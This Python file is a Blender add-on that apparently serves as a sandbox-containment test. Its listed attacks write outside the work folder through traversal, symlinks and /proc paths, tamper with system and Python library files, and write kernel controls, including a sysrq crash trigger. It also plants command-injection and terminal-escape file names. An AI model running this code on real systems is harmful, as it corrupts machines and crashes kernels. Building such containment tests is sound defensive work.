# ruff: noqa
"""An add-on that writes where it should not; `aims.json` says where that would show."""

bl_info = {"name": "Writes", "blender": (2, 80, 0), "version": (1, 0, 0), "category": "Object"}

import json
import os
import shutil

import bpy

from .operators import operators

HERE = os.path.dirname(os.path.realpath(__file__))
WORK = os.path.dirname(os.path.dirname(os.environ["HOME"]))
with open(os.path.join(HERE, "aims.json"), encoding="utf-8") as stream:
    AIMS = json.load(stream)


def _write(path):
    with open(path, "w", encoding="utf-8") as stream:
        stream.write("written by the add-on")
    return f"wrote {path}"


def absolute():
    """By its full path."""
    return _write(AIMS["canary"])


def upwards():
    """Out of the work folder with dots."""
    return _write(os.path.join(WORK, "..", "..", os.path.basename(AIMS["canary"])))


def through_a_link():
    """Through a link of its own."""
    link = os.path.join(WORK, "way-out")
    os.symlink(os.path.dirname(AIMS["canary"]), link)
    return _write(os.path.join(link, os.path.basename(AIMS["canary"])))


def hard_link():
    """A second name for a file that is not its own, to be changed later."""
    os.link("/usr/bin/env", os.path.join(WORK, "env"))
    return "linked"


def system():
    """Programs and configuration of the machine."""
    done = []
    for path in ("/usr/bin/bcrag-was-here", "/etc/profile.d/x.sh", "/var/tmp/x", "/srv/x", "/home/x", "/run/x", "/x"):
        try:
            done.append(_write(path))
        except OSError:
            continue
    return f"wrote {done}" if done else "refused everywhere"


def blender_itself():
    """The Blender all further runs would start."""
    done = []
    for path in (bpy.__file__, os.__file__, json.__file__):
        try:
            with open(path, "a", encoding="utf-8") as stream:
                stream.write("# owned\n")
            done.append(path)
        except OSError:
            continue
    return f"wrote {done}" if done else "refused everywhere"


def through_proc():
    """By other names of the root folder."""
    done = []
    for root in ("/proc/self/root", "/proc/1/root", "/proc/1/cwd", f"/proc/{os.getppid()}/root"):
        try:
            done.append(_write(root + AIMS["canary"]))
        except OSError:
            continue
    return f"wrote {done}" if done else "refused everywhere"


def kernel():
    """Switches of the kernel."""
    done = []
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj", "/proc/1/oom_score_adj"):
        try:
            with open(path, "w", encoding="utf-8") as stream:
                stream.write("-1000" if "oom" in path else "c" if "sysrq" in path else "|/bin/false")
            done.append(path)
        except OSError:
            continue
    return f"wrote {done}" if done else "refused everywhere"


def itself():
    """Its own files while it runs, so that whoever looks later sees another add-on."""
    return _write(os.path.join(HERE, "__init__.py")).replace("wrote", "its copy is its own to spoil:")


def places_of_results():
    """Links, pipes and folders where somebody will read or write."""
    for name in ("result.json", "journal.jsonl", "picture.png", "request.json", "harness.py"):
        path = os.path.join(WORK, name)
        if os.path.isdir(path):
            shutil.rmtree(path)
        elif os.path.lexists(path):
            os.unlink(path)
    os.symlink(AIMS["canary"], os.path.join(WORK, "picture.png"))
    os.mkfifo(os.path.join(WORK, "request.json"))
    os.mkdir(os.path.join(WORK, "harness.py"))
    return "prepared; what comes of it is seen outside"


def names():
    """Names no terminal, shell or archive is made for."""
    strange = ("\n" * 200, "-rf", "$(id)", "\x1b]0;owned\x07", "\u202egnp.exe", "x" * 255, "\udcff\udcfe")
    for name in strange:
        with open(os.path.join(WORK, name), "wb"):
            pass
    return "made; what comes of it is seen outside"


ATTACKS = (
    absolute, upwards, through_a_link, hard_link, system, blender_itself, through_proc, kernel, names, itself,
    places_of_results,
)  # fmt: skip

CLASSES = operators("writes", ATTACKS)


def register():
    for cls in CLASSES:
        bpy.utils.register_class(cls)


def unregister():
    for cls in reversed(CLASSES):
        bpy.utils.unregister_class(cls)
